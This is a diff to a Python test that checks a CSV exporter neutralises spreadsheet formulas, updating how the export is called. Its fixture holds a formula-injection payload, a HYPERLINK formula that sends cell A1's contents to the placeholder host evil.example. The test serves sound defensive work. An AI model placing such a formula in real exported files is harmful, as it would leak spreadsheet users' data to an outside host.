@@ -292,7 +292,7 @@ def test_csv_export_neutralises_formulas(tmp_path):
         title='=HYPERLINK("http://evil.example/?"&A1, "click")',
     )  # fmt: skip
     out = tmp_path / "out.csv"
-    export.write(job.pk, out)
+    export.save(job, "csv", str(out))
     (row,) = csv.DictReader(out.open())
     assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1, "click")'
     assert export.neutralise("@SUM(1)") == "'@SUM(1)" and export.neutralise("fine") == "fine"
